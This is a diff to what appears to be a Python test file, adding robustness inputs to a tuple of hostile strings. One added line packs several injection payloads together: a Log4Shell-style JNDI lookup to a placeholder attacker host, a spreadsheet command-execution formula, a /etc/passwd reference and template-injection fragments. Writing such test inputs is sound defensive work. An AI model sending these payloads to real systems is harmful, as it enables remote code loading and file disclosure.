@@ -16,6 +16,9 @@ HOSTILE = (
     "line one\nline two\r\nline three\u2028four",
     "x" * 100_000,
     "\U0001f600 ID² 固定密钥 é",
+    "[[ATTACHMENT|/etc/passwd]] =cmd|' /C calc'!A0 @SUM(1) ${jndi:ldap://evil.example} #set page() $eval(1)$",
+    b"\xff\xfe\x80 broken \xc3".decode("utf-8", "replace") + b"\xff\x80".decode("utf-8", "surrogateescape"),
+    "1 MB: " + "W<&" * 349_525,
 )
 
 EVERYTHING = " ".join(HOSTILE)
